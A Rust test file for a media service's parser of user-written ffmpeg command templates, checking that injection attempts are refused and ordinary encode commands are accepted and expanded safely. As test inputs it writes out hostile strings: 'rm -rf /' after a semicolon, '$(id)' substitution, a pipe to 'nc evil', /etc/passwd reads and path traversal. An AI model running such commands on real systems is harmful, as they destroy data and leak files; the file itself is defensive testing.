//! Custom commands: what is refused (with the word named), what is
//! accepted, and what the accepted ones expand to.

use super::*;
use crate::media::plan::Overlay;

/// Parses `command`, expecting a refusal that names `word`.
#[track_caller]
fn refused(command: &str, word: &str) -> CommandError {
    let err = parse(command).expect_err(command);
    let shown = format!("{word:?}");
    assert!(
        err.word.contains(word) && err.to_string().contains(&shown[1..shown.len() - 1]),
        "{command:?}: expected the refusal to name {word:?}, got: {err}"
    );
    err
}

#[track_caller]
fn accepted(command: &str) -> Template {
    parse(command).unwrap_or_else(|e| panic!("{command:?} should be accepted: {e}"))
}

const OK: &str = "ffmpeg -i $input_file$ -c:v libx264 $output_file$";

#[test]
fn shell_syntax_is_refused() {
    refused(&format!("{OK};rm -rf /"), "rm");
    refused(&format!("{OK}\nrm -rf /"), "rm");
    refused(";rm -rf /", "rm");
    refused("ffmpeg -i $(id) x.mp4", "$(id)");
    refused("ffmpeg -i ${HOME} x.mp4", "${HOME}");
    refused("ffmpeg -i `id` x.mp4", "`id`");
    refused("ffmpeg -i $input_file$ $output_file$ | nc evil 1", "|");
    refused("ffmpeg -i $input_file$ $output_file$ && id", "&&");
    refused("ffmpeg -i $input_file$ $output_file$ > /tmp/x", ">");
    refused("ffmpeg -i $input_file$ x.mp4 < /etc/passwd", "<");
    refused("ffmpeg -i $input_file$ $output_file$ &", "&");
    refused("ffmpeg -i $input_file$ a\\ b.mp4", "a\\");
    refused("ffmpeg -i $input_file$ \"x;id\"", "\"x");
    refused(
        "ffmpeg -i $input_file$ -filter_complex '[0:v]split[a][b];[a]null' a.mp4",
        "'[0:v]split[a][b]",
    );
    refused("ffmpeg -i $input_file$ 'x.mp4", "'x.mp4");
    refused("ffmpeg -i $input_file$ \"a\nb\"", "\"a");
    refused("ffmpeg -i $input_file$ $HOME x.mp4", "$HOME");
    refused("ffmpeg -i $input_file$ $nope$ x.mp4", "$nope$");
    refused("ffmpeg -i $input_file$ cost$5.mp4", "cost$5.mp4");
    refused("ffmpeg -i $input_file$ *.mp4", "*.mp4");
    refused("ffmpeg -i $input_file$ x?.mp4", "x?.mp4");
    refused("ffmpeg -i $input_file$ {a,b}.mp4", "{a,b}.mp4");
    refused("ffmpeg -i $input_file$ x\u{7}.mp4", "x\u{7}.mp4");
}

#[test]
fn only_ffmpeg_and_ffprobe_run() {
    refused("rm -rf /", "rm");
    refused("sh -c id", "sh");
    refused(
        "/usr/bin/ffmpeg -i $input_file$ $output_file$",
        "/usr/bin/ffmpeg",
    );
    refused("./ffmpeg -i $input_file$ $output_file$", "./ffmpeg");
    refused("$input_file$ -i x", "$input_file$");
    for legacy in [
        "lame",
        "mencoder",
        "segmenter",
        "manifester",
        "qtrotate",
        "yamdi",
        "MP4Box",
    ] {
        let err = refused(&format!("{legacy} $input_file$ $output_file$"), legacy);
        assert!(err.reason.contains("not installed"), "{err}");
    }
    refused("", "");
    refused(" ; \n ", "");
}

#[test]
fn paths_outside_the_job_are_refused() {
    refused("ffmpeg -i /etc/passwd $output_file$", "/etc/passwd");
    refused("ffmpeg -i $input_file$ /tmp/out.mp4", "/tmp/out.mp4");
    refused("ffmpeg -i $input_file$ ../../x.mp4", "../../x.mp4");
    refused("ffmpeg -i $input_file$ sub/../../x.mp4", "sub/../../x.mp4");
    refused("ffmpeg -i $input_file$ ~/x.mp4", "~/x.mp4");
    refused("ffmpeg -i ~root/x.mp4 $output_file$", "~root/x.mp4");
    refused(
        "ffmpeg -i file:/etc/passwd $output_file$",
        "file:/etc/passwd",
    );
    refused("ffmpeg -i $input_file$ file:../x.mp4", "file:../x.mp4");
    refused(
        "ffmpeg -i $input_file$ -passlogfile /tmp/log $output_file$",
        "/tmp/log",
    );
    refused(
        "ffmpeg -i $input_file$ -x264-params stats=/tmp/s $output_file$",
        "stats=/tmp/s",
    );
    refused(
        "ffmpeg -i $input_file$ -metadata title=/etc/x $output_file$",
        "title=/etc/x",
    );
    refused("ffmpeg -i $input_file$ $input_file$", "$input_file$");
    refused(
        "ffmpeg -i $input_file$ -passlogfile $input_file$ x.mp4",
        "$input_file$",
    );
    refused(
        "ffmpeg -i $input_file$ out_$output_file$",
        "out_$output_file$",
    );
    refused("ffmpeg -i $input_file$ /dev/null", "/dev/null");
    refused("ffmpeg -i $input_file$ -f mp4 /dev/null", "/dev/null");
    refused("ffmpeg -i $input_file$ -f mp4 -", "-");
}

#[test]
fn protocols_and_urls_are_refused() {
    refused("ffmpeg -i http://x/y $output_file$", "http://x/y");
    refused("ffmpeg -i HTTPS://x/y $output_file$", "HTTPS://x/y");
    refused("ffmpeg -i $input_file$ rtmp://live/x", "rtmp://live/x");
    refused(
        "ffmpeg -i $input_file$ -f mpegts udp:1.2.3.4:5",
        "udp:1.2.3.4:5",
    );
    refused("ffmpeg -i $input_file$ tcp:evil:80", "tcp:evil:80");
    refused("ffmpeg -i concat:a.mp4 $output_file$", "concat:a.mp4");
    refused("ffmpeg -i 'concat:a|b' $output_file$", "concat:a|b");
    refused(
        "ffmpeg -i subfile:,start,0,end,9,,:x.mp4 $output_file$",
        "subfile:",
    );
    refused(
        "ffmpeg -i data:text/plain,hi $output_file$",
        "data:text/plain,hi",
    );
    refused("ffmpeg -i pipe:0 $output_file$", "pipe:0");
    refused("ffmpeg -i $input_file$ pipe:1", "pipe:1");
    refused(
        "ffmpeg -i crypto+file:x.mp4 $output_file$",
        "crypto+file:x.mp4",
    );
    refused(
        "ffmpeg -i $input_file$ -progress http://x/p $output_file$",
        "http://x/p",
    );
    refused(
        "ffmpeg -i $input_file$ -progress p.txt $output_file$",
        "p.txt",
    );
    refused(
        "ffmpeg -i $input_file$ -hls_base_url http://cdn/ x.m3u8",
        "http://cdn/",
    );
}

#[test]
fn file_reading_and_writing_options_are_refused() {
    refused(
        "ffmpeg -i $input_file$ -i /etc/passwd $output_file$",
        "/etc/passwd",
    );
    refused(
        "ffmpeg -filter_script f.txt -i $input_file$ $output_file$",
        "-filter_script",
    );
    refused(
        "ffmpeg -i $input_file$ -filter_complex_script f.txt $output_file$",
        "-filter_complex_script",
    );
    refused(
        "ffmpeg -i $input_file$ -attach x.ttf $output_file$",
        "-attach",
    );
    refused(
        "ffmpeg -dump_attachment:t a.ttf -i $input_file$ $output_file$",
        "-dump_attachment:t",
    );
    refused(
        "ffmpeg -i $input_file$ -vstats_file v.log $output_file$",
        "-vstats_file",
    );
    refused(
        "ffmpeg -i $input_file$ -sdp_file s.sdp $output_file$",
        "-sdp_file",
    );
    refused("ffmpeg -report -i $input_file$ $output_file$", "-report");
    refused(
        "ffmpeg -protocol_whitelist file,http -i $input_file$ $output_file$",
        "-protocol_whitelist",
    );
    refused(
        "ffmpeg -i $input_file$ -fpre x.ffpreset $output_file$",
        "-fpre",
    );
    refused(
        "ffmpeg -init_hw_device vaapi=/dev/dri/x -i $input_file$ $output_file$",
        "-init_hw_device",
    );
    refused(
        "ffmpeg -/filter:v f.txt -i $input_file$ $output_file$",
        "-/filter:v",
    );
    refused("ffmpeg -version", "-version");
    refused(
        "ffmpeg -enable_drefs 1 -i $input_file$ $output_file$",
        "-enable_drefs",
    );
    refused(
        "ffmpeg -use_absolute_path 1 -i $input_file$ $output_file$",
        "-use_absolute_path",
    );
    refused(
        "ffmpeg -format_whitelist hls -i x.m3u8 $output_file$",
        "-format_whitelist",
    );
    refused(
        "ffmpeg -i $input_file$ -hls_key_info_file k.txt x.m3u8",
        "-hls_key_info_file",
    );
    refused(
        "ffmpeg -i $input_file$ -vf movie=/etc/passwd $output_file$",
        "movie=/etc/passwd",
    );
    refused(
        "ffmpeg -i $input_file$ -vf movie=x.mp4 $output_file$",
        "movie=x.mp4",
    );
    refused(
        "ffmpeg -i $input_file$ -af amovie=x.wav $output_file$",
        "amovie=x.wav",
    );
    refused(
        "ffmpeg -i $input_file$ -vf \"scale=320:-2,subtitles=s.srt\" $output_file$",
        "subtitles",
    );
    refused(
        "ffmpeg -i $input_file$ -filter_complex \"[0:v]drawtext=textfile=t.txt\" x.mp4",
        "drawtext",
    );
    refused("ffmpeg -i $input_file$ -vf zmq $output_file$", "zmq");
    refused("ffmpeg -f lavfi -i movie=x.mp4 $output_file$", "lavfi");
    refused("ffmpeg -f concat -i list.txt $output_file$", "concat");
    refused("ffmpeg -f hls -i x.m3u8 $output_file$", "hls");
    refused("ffmpeg -i $input_file$ -f tee x.mp4", "tee");
    refused("ffmpeg -i $input_file$ -f rtp x.sdp", "rtp");
    refused("ffmpeg -i $input_file$ -f v4l2 video0", "v4l2");
    refused(
        "ffmpeg -f image2 -pattern_type glob -i x.png $output_file$",
        "glob",
    );
    refused("ffprobe -o /tmp/x.json $input_file$", "/tmp/x.json");
    refused("ffprobe /etc/passwd", "/etc/passwd");
    refused("qt-faststart $input_file$ /tmp/x.mp4", "/tmp/x.mp4");
    refused("qt-faststart $input_file$", "$input_file$");
}

#[test]
fn tokens_sit_where_they_make_sense() {
    refused(
        "ffmpeg -i $input_file$ \"$video_bitrate$\" $output_file$",
        "$video_bitrate$",
    );
    refused(
        "ffmpeg -i $input_file$ -b:v$video_bitrate$ $output_file$",
        "-b:v$video_bitrate$",
    );
    refused(
        "ffmpeg -i $input_file$ -vf $filters$ $output_file$",
        "$filters$",
    );
    refused("ffmpeg -i $input_file$ -c:v", "-c:v");
    accepted("ffmpeg -i \"$input_file$\" -vf scale=$width$:$height$ \"$output_file$\"");
    accepted("ffmpeg -i $input_file$ $record_id$_low.mp4");
}

#[test]
fn ordinary_commands_are_accepted() {
    for command in [
        OK,
        "ffmpeg -i $input_file$ -c:a aac $audio_bitrate$ -c:v libx264 $video_bitrate$ $filters$ \
         $fps$ $keyframes$ $clip$ $h264_profile$ $h264_level$ $max_video_bitrate$ \
         $max_audio_bitrate$ $audio_sample_rate$ $audio_channels$ $video_quality$ \
         $resolution_and_padding$ -movflags +faststart -y $output_file$",
        "ffmpeg -y -i $input_file$ -c:v libx264 -pass 1 -passlogfile pass -an -f null /dev/null; \
         ffmpeg -y -i $input_file$ -c:v libx264 -pass 2 -passlogfile pass $output_file$",
        "ffmpeg -i $input_file$ -pass 1 -f null -",
        "ffmpeg -i $input_file$ -vf \"scale=iw/2:-2,setsar=1\" -x264-params keyint=48:scenecut=0 \
         -force_key_frames 'expr:gte(t,n_forced*2)' -metadata 'title=My video' \
         -map 0:v:0 -map 0:a? -noautorotate -autorotate 0 $output_file$",
        "ffmpeg -i $input_file$ -vf \"select='eq(pict_type,I)',setpts=N/FRAME_RATE/TB\" x_%03d.jpg",
        "ffmpeg -i $input_file$ -filter_complex '[0:v]split[a][b]' -map [a] a.mp4 -map [b] b.mp4",
        "ffmpeg -i $input_file$ -c copy -f segment -segment_time 4 $record_id$_%03d.ts",
        "ffmpeg -i $input_file$ file:$record_id$_x.mp4",
        "ffprobe -v error -show_streams -show_entries stream=codec_name,width:format=duration \
         -of json $input_file$",
        "ffprobe -i $output_file$ -o $record_id$.json -show_format",
        "qt-faststart $record_id$_tmp.mp4 $output_file$",
        "ffmpeg -i $input_file$ -map -0:s -ss 00:00:01.5 -t 2 -aspect 16:9 $output_file$",
    ] {
        accepted(command);
    }
}

#[test]
fn lines_split_at_newlines_and_semicolons() {
    let t = accepted("ffmpeg -i $input_file$ a.mp4;\n\nffmpeg -i a.mp4 $output_file$ ;");
    assert_eq!(t.lines.len(), 2);
    assert_eq!(t.lines[1].number, 4, "line numbers count every separator");
    let err = refused(
        "ffmpeg -i $input_file$ a.mp4\nffmpeg -i /x $output_file$",
        "/x",
    );
    assert_eq!(err.line, 2);
    assert!(
        err.to_string()
            .starts_with("command line 2: \"/x\": absolute paths"),
        "{err}"
    );
}

// -- expansion -----------------------------------------------------------------

fn values() -> TokenValues {
    let mut options = BTreeMap::new();
    options.insert(
        Token::VideoBitrate,
        vec!["-b:v".to_string(), "500k".to_string()],
    );
    options.insert(
        Token::Clip,
        vec!["-ss".into(), "1.000".into(), "-t".into(), "2.000".into()],
    );
    TokenValues {
        input_file: "/data/storage/c/v.mov".into(),
        source_format: Some("mov,mp4,m4a,3gp,3g2,mj2".into()),
        output_file: "/work/job/enc1.mp4".into(),
        record_id: "enc1".into(),
        width: Some(640),
        height: None,
        picture: Some(Picture {
            chain: "scale=640:360,setsar=1".into(),
            stream: 0,
            watermark: None,
        }),
        options,
    }
}

fn expand(command: &str, values: &TokenValues) -> Vec<Step> {
    accepted(command).expand(values).unwrap()
}

#[test]
fn expansion_substitutes_and_protects() {
    let steps = expand(
        "ffmpeg $clip$ -i $input_file$ $video_bitrate$ $fps$ $filters$ -vf scale=$width$:-2 \
         $record_id$_low.mp4; ffprobe $output_file$",
        &values(),
    );
    let a = &steps[0].args;
    assert_eq!(steps[0].tool, Tool::Ffmpeg);
    assert_eq!(&a[..COMMON_ARGS.len()], strings(COMMON_ARGS).as_slice());
    let rest: Vec<&str> = a[COMMON_ARGS.len()..].iter().map(String::as_str).collect();
    assert_eq!(
        rest,
        [
            "-ss",
            "1.000",
            "-t",
            "2.000",
            "-protocol_whitelist",
            "file",
            "-format_whitelist",
            "mov,mp4,m4a,3gp,3g2,mj2",
            "-i",
            "file:/data/storage/c/v.mov",
            "-b:v",
            "500k",
            "-vf",
            "scale=640:360,setsar=1",
            "-vf",
            "scale=640:-2",
            "enc1_low.mp4"
        ]
    );
    assert_eq!(steps[1].tool, Tool::Ffprobe);
    assert_eq!(
        steps[1].args,
        [
            "-hide_banner".to_string(),
            "-protocol_whitelist".into(),
            "file".into(),
            "-format_whitelist".into(),
            format!(
                "mov,mp4,m4a,3gp,3g2,mj2,{}",
                tables::SCRATCH_DEMUXERS.join(",")
            ),
            "file:/work/job/enc1.mp4".into(),
        ]
    );
    assert_eq!(steps[1].line, 2);
}

#[test]
fn a_size_without_value_is_an_error_at_expansion() {
    let err = accepted("ffmpeg -i $input_file$ -vf scale=-2:$height$ $output_file$")
        .expand(&values())
        .unwrap_err();
    assert!(err.reason.contains("$height$ has no value"), "{err}");
}

#[test]
fn qt_faststart_becomes_an_ffmpeg_remux() {
    let steps = expand("qt-faststart $record_id$_tmp.mp4 $output_file$", &values());
    let rest = &steps[0].args[COMMON_ARGS.len()..];
    let scratch = tables::SCRATCH_DEMUXERS.join(",");
    assert_eq!(
        rest,
        [
            "-protocol_whitelist",
            "file",
            "-format_whitelist",
            &scratch,
            "-i",
            "enc1_tmp.mp4",
            "-map",
            "0",
            "-c",
            "copy",
            "-movflags",
            "+faststart",
            "file:/work/job/enc1.mp4"
        ]
    );
}

#[test]
fn a_watermark_turns_filters_into_a_complex_graph_with_the_image_last() {
    let mut v = values();
    v.picture.as_mut().unwrap().watermark = Some(WatermarkImage {
        input: "file:/work/job/watermark".into(),
        format: "png_pipe".into(),
        overlay: Overlay {
            input: 0,
            scale: None,
            overlay: "overlay=x=W-w-10:y=0:eof_action=repeat".into(),
        },
    });
    let steps = expand(
        "ffmpeg -i $input_file$ -c:v libx264 $filters$ $output_file$ $filters$ b.mp4",
        &v,
    );
    let a = &steps[0].args;
    let graphs: Vec<&String> = a
        .windows(2)
        .filter(|w| w[0] == "-filter_complex")
        .map(|w| &w[1])
        .collect();
    assert_eq!(
        graphs[0],
        "[0:0]scale=640:360,setsar=1[basewm0];[basewm0][1:v]overlay=x=W-w-10:y=0:\
         eof_action=repeat,format=yuv420p[wm0]"
    );
    assert!(graphs[1].contains("[2:v]overlay") && graphs[1].ends_with("[wm1]"));
    assert!(a.windows(2).any(|w| w == ["-map", "[wm0]"]));
    assert!(a.windows(2).any(|w| w == ["-map", "0:a:0?"]));
    let tail: Vec<&str> = a[a.len() - 12..].iter().map(String::as_str).collect();
    assert_eq!(
        tail,
        [
            "-protocol_whitelist",
            "file",
            "-f",
            "png_pipe",
            "-i",
            "file:/work/job/watermark",
            "-protocol_whitelist",
            "file",
            "-f",
            "png_pipe",
            "-i",
            "file:/work/job/watermark"
        ]
    );
}

#[test]
fn filter_names_are_read_like_ffmpeg_reads_them() {
    assert_eq!(
        filter_names("[0:v]scale=320:-2[a];[a][1:v]overlay=x=1,select='eq(n,1)'[out]"),
        ["scale", "overlay", "select"]
    );
    assert_eq!(filter_names("yadif, hflip"), ["yadif", "hflip"]);
    assert_eq!(filter_names("volume@v=2"), ["volume"]);
}

// -- a real two-step command ---------------------------------------------------

#[tokio::test]
async fn real_two_step_command_writes_both_outputs() {
    use crate::domain::profile::ProfileSpec;
    use crate::media::plan::{EncodeRequest, EncoderSpeed};
    use crate::media::probe::probe;
    use crate::media::process::{RunSpec, Runner};

    let dir = tempfile::tempdir().unwrap();
    let input = PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/media/bbb-51.mp4"
    ));
    let facts = probe(&input).await.unwrap();
    let command = "ffmpeg $clip$ -i $input_file$ -c:v libx264 -preset ultrafast $filters$ \
                   $video_bitrate$ $keyframes$ -c:a aac $audio_bitrate$ $audio_channels$ \
                   -movflags +faststart $output_file$\n\
                   ffmpeg -i $output_file$ -c:v libx264 -preset ultrafast -vf scale=$width$/2:-2 \
                   -an $record_id$_low.mp4";
    let profile = ProfileSpec {
        command: Some(command.into()),
        extname: Some(".mp4".into()),
        width: Some(320),
        height: Some(180),
        video_bitrate: Some(300),
        audio_channels: Some(2),
        keyframe_interval: Some(25.0),
        clip_length: Some("1".into()),
        ..Default::default()
    }
    .resolve()
    .unwrap();
    let output = dir.path().join("enc1.mp4");
    let request = EncodeRequest {
        profile: &profile,
        facts: &facts,
        input: &input,
        output: &output,
        screenshots: None,
        speed: &EncoderSpeed::default(),
        watermark: None,
    };
    let values = token_values(&request, "enc1").unwrap();
    assert_eq!((values.width, values.height), (Some(320), Some(180)));
    let steps = parse(command).unwrap().expand(&values).unwrap();
    assert_eq!(steps.len(), 2);
    assert!(steps[0].args.windows(2).any(|w| w == ["-g", "25"]));
    assert!(steps[0].args.windows(2).any(|w| w == ["-t", "1.000"]));
    let runner = Runner::new(1);
    for step in &steps {
        runner
            .run(RunSpec {
                program: step.tool,
                args: &step.args,
                workdir: dir.path(),
                time_limit: std::time::Duration::from_secs(60),
                stall_limit: std::time::Duration::from_secs(60),
                cancel: Default::default(),
                expected_duration_ms: Some(1000),
                on_progress: None,
            })
            .await
            .unwrap_or_else(|e| panic!("{e}\n{:?}", e.stderr_tail()));
    }
    let main = probe(&output).await.unwrap();
    let v = main.video.unwrap();
    assert_eq!((v.width, v.height), (320, 180));
    assert_eq!(main.audio.map(|a| a.channels), Some(2));
    assert!((900..=1100).contains(&main.duration_ms.unwrap()));
    let low = probe(&dir.path().join("enc1_low.mp4")).await.unwrap();
    assert_eq!(low.video.map(|v| (v.width, v.height)), Some((160, 90)));
    assert!(low.audio.is_none());
}

/// A file the command wrote may be an HLS playlist naming another file by
/// absolute path; reading it back must not open that file.
#[tokio::test]
async fn a_playlist_in_the_job_directory_cannot_reach_other_files() {
    use crate::media::process::{RunSpec, Runner};
    let dir = tempfile::tempdir().unwrap();
    let outside = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/media/hls-segment-cea608.ts"
    );
    std::fs::write(
        dir.path().join("enc1_list.m3u8"),
        format!("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{outside}\n#EXT-X-ENDLIST\n"),
    )
    .unwrap();
    let mut v = values();
    v.output_file = dir.path().join("enc1.mp4");
    let steps = expand(
        "ffmpeg -i $record_id$_list.m3u8 -c copy -t 0.1 $output_file$",
        &v,
    );
    let err = Runner::new(1)
        .run(RunSpec {
            program: steps[0].tool,
            args: &steps[0].args,
            workdir: dir.path(),
            time_limit: std::time::Duration::from_secs(30),
            stall_limit: std::time::Duration::from_secs(30),
            cancel: Default::default(),
            expected_duration_ms: None,
            on_progress: None,
        })
        .await
        .expect_err("the hls demuxer is not allowed");
    let tail = err.stderr_tail().unwrap_or_default();
    assert!(tail.contains("not on whitelist"), "{tail}");
    assert!(!dir.path().join("enc1.mp4").exists());
}
